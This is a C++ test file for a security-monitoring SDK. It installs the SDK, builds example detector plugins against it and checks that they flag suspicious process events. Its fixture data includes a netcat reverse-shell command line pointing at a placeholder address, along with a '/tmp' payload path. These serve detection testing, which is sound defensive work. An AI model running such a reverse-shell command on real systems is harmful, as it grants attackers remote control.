// SPDX-License-Identifier: Apache-2.0
// The installed SDK is a package: install it to a temporary prefix, build the out-of-tree example
// against it (a copy outside the source tree, with only CMAKE_PREFIX_PATH pointing at the
// prefix), and load the result with the engine's loader.
#include <catch2/catch.hpp>

#include <cstdlib>
#include <filesystem>
#include <fstream>

#include "phantomguard/runtime/plugin_detector.hpp"
#include "phantomguard/runtime/plugin_isolation.hpp"
#include "scratch_dir.hpp"
#include "test_context.hpp"

using namespace pg::runtime;
namespace fs = std::filesystem;

namespace {

int sh(const std::string& cmd) {
  const int rc = std::system((cmd + " > /dev/null 2>&1").c_str());
  return WIFEXITED(rc) ? WEXITSTATUS(rc) : -1;
}

std::string capture(const std::string& cmd) {
  std::string out;
  FILE* p = ::popen(cmd.c_str(), "r");
  if (p == nullptr)
    return out;
  char buf[256];
  while (std::fgets(buf, sizeof buf, p) != nullptr)
    out += buf;
  ::pclose(p);
  return out;
}

} // namespace

SCENARIO("an outside author builds the example against the installed SDK", "[sdk][package]") {
  pg::test::scratch_dir tmp;
  const std::string prefix = tmp / "prefix";
  const std::string cmake = PG_CMAKE_COMMAND;
  GIVEN("the SDK installed with cmake --install --component sdk") {
    REQUIRE(sh(cmake + " --install '" PG_BINARY_DIR "' --component sdk --prefix '" + prefix +
               "'") == 0);
    THEN("the headers, the package files and the pkg-config file are there") {
      CHECK(fs::exists(prefix + "/include/phantomguard/sdk/plugin.h"));
      CHECK(fs::exists(prefix + "/include/phantomguard/sdk/detector.hpp"));
      CHECK(fs::exists(prefix + "/share/cmake/PhantomGuardSDK/PhantomGuardSDKConfig.cmake"));
      CHECK(fs::exists(prefix + "/share/cmake/PhantomGuardSDK/PhantomGuardSDKConfigVersion.cmake"));
      CHECK(fs::exists(prefix + "/share/cmake/PhantomGuardSDK/PhantomGuardSDKPlugin.cmake"));
      // Its licence, and the headers saying it (closed plugins may compile them in).
      CHECK(fs::exists(prefix + "/share/doc/phantomguard-sdk/Apache-2.0.txt"));
      CHECK(fs::exists(prefix + "/share/doc/phantomguard-sdk/LLVM-exception.txt"));
      for (const char* h : {"/include/phantomguard/sdk/plugin.h",
                            "/include/phantomguard/sdk/detector.hpp"}) {
        std::ifstream in(prefix + h);
        std::string first;
        std::getline(in, first);
        CHECK(first == "// SPDX-License-Identifier: Apache-2.0 WITH LLVM-exception");
      }
      CHECK(capture("PKG_CONFIG_PATH='" + prefix +
                    "/share/pkgconfig' pkg-config --modversion "
                    "phantomguard-sdk") == "1.1.0\n");
      const std::string cflags = capture("PKG_CONFIG_PATH='" + prefix +
                                         "/share/pkgconfig' pkg-config --cflags phantomguard-sdk");
      REQUIRE(cflags.rfind("-I", 0) == 0);
      const std::string include_dir = cflags.substr(2, cflags.find(' ') - 2);
      CHECK(fs::equivalent(include_dir, prefix + "/include")); // relative to the .pc file
      CHECK(cflags.find("-fvisibility") == std::string::npos); // Cflags: -I only (lintian)
      CHECK(capture("PKG_CONFIG_PATH='" + prefix +
                    "/share/pkgconfig' pkg-config --variable=plugin_cflags phantomguard-sdk") ==
            "-fvisibility=hidden\n");
    }
    WHEN("the example is copied out of the tree, configured and built against it") {
      const std::string src = tmp / "example";
      fs::copy(PG_SOURCE_DIR "/examples/detector-plugin", src, fs::copy_options::recursive);
      const std::string build = tmp / "build";
      const int configured =
          sh(cmake + " -S '" + src + "' -B '" + build +
             "' -G '" PG_CMAKE_GENERATOR "' -DCMAKE_BUILD_TYPE=Release -DCMAKE_PREFIX_PATH='" +
             prefix + "'");
      REQUIRE(configured == 0);
      REQUIRE(sh(cmake + " --build '" + build + "'") == 0);
      const std::string so = build + "/suspicious_tmp_exec.so";
      REQUIRE(fs::exists(so));
      THEN("the engine's loader accepts and runs it") {
        plugin_request r;
        r.plugin = so;
        auto c = make_plugin_component(r);
        pg::test::test_context ctx;
        event_batch b;
        event e;
        e.kind = "process_exec";
        e.set("pid", std::int64_t{4242}).set("exe", std::string("/tmp/.x/payload"));
        b.events.push_back(e);
        event benign;
        benign.kind = "process_exec";
        benign.set("pid", std::int64_t{7}).set("exe", std::string("/usr/bin/ls"));
        b.events.push_back(benign);
        c->on_batch(b, ctx);
        REQUIRE(ctx.findings.size() == 1);
        CHECK(ctx.findings[0].rule == "example.tmp_exec");
        CHECK(ctx.findings[0].entity["pid"] == 4242);
      }
    }
    WHEN("the plain C example is built with make and pkg-config, without CMake") {
      const std::string src = tmp / "c-plugin";
      fs::copy(PG_SOURCE_DIR "/examples/c-plugin", src, fs::copy_options::recursive);
      REQUIRE(sh("make -C '" + src + "' PKG_CONFIG_PATH='" + prefix + "/share/pkgconfig'") == 0);
      const std::string so = src + "/netcat_exec.so";
      REQUIRE(fs::exists(so));
      auto feed = [](component& c) {
        pg::test::test_context ctx;
        c.start(ctx);
        event_batch b;
        event shell;
        shell.kind = "process";
        shell.set("pid", std::int64_t{4242}).set("comm", std::string("nc"));
        shell.set("cmdline", std::string("nc -e /bin/sh 203.0.113.9 4444"));
        b.events.push_back(shell);
        event benign;
        benign.kind = "process";
        benign.set("pid", std::int64_t{7}).set("comm", std::string("nc"));
        benign.set("cmdline", std::string("nc -z 127.0.0.1 22"));
        b.events.push_back(benign);
        c.on_batch(b, ctx);
        c.stop(ctx);
        return ctx.findings;
      };
      THEN("it loads in-process and finds the shell") {
        plugin_request r;
        r.plugin = so;
        auto c = make_plugin_component(r);
        const auto found = feed(*c);
        REQUIRE(found.size() == 1);
        CHECK(found[0].rule == "example.netcat_exec");
        CHECK(found[0].level == severity::high);
        CHECK(found[0].entity["pid"] == 4242);
      }
      THEN("it loads isolated, in the sandboxed child, and finds the same") {
        ::setenv("PHANTOMGUARD_PLUGIN_HOST", PG_ISOLATION_HOST, 1);
        plugin_request r;
        r.plugin = so;
        auto c = make_isolated_plugin_component(r, isolation_settings{}, "netcat");
        const auto found = feed(*c);
        REQUIRE(found.size() == 1);
        CHECK(found[0].rule == "example.netcat_exec");
        CHECK(found[0].entity["pid"] == 4242);
      }
    }
    WHEN("a project asks for SDK 2.0") {
      const std::string src = tmp / "wants2";
      fs::create_directories(src);
      tmp.write("wants2/CMakeLists.txt",
                "cmake_minimum_required(VERSION 3.20)\nproject(w LANGUAGES CXX)\n"
                "find_package(PhantomGuardSDK 2.0 REQUIRED)\n");
      THEN("SameMajorVersion refuses the 1.x package") {
        CHECK(sh(cmake + " -S '" + src + "' -B '" + (tmp / "wants2-build") +
                 "' -DCMAKE_PREFIX_PATH='" + prefix + "'") != 0);
      }
    }
  }
}
